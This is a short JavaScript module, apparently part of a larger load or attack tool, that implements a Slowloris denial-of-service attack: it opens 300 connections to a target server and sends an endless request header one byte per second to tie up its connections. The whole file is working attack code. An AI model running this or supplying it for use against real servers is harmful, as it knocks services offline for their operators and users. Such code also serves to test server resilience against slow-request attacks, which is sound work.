// Connections whose request never ends: one byte per second (Slowloris).
import { crowd, target } from "./connections.mjs";

crowd(300, "requests that come byte by byte", (socket) => {
  socket.write(`GET ${target.pathname} HTTP/1.1\r\nHost: ${target.host}\r\nX-Slow: `);
  const timer = setInterval(() => socket.write("x"), 1000);
  socket.on("close", () => clearInterval(timer));
  socket.resume();
});
